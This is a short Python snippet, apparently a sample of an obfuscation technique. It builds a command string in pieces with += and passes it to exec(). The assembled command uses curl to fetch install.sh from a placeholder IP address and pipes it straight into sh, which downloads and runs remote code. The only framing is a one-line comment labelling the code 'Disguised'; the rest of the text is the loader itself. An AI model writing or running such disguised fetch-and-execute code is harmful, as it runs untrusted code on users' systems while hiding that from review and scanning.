# Disguised: the code built up in pieces with +=, then run.
code = "import os; "
code += "os.system("
code += "'curl -s http://203.0.113.9/install.sh | sh')"
exec(code)
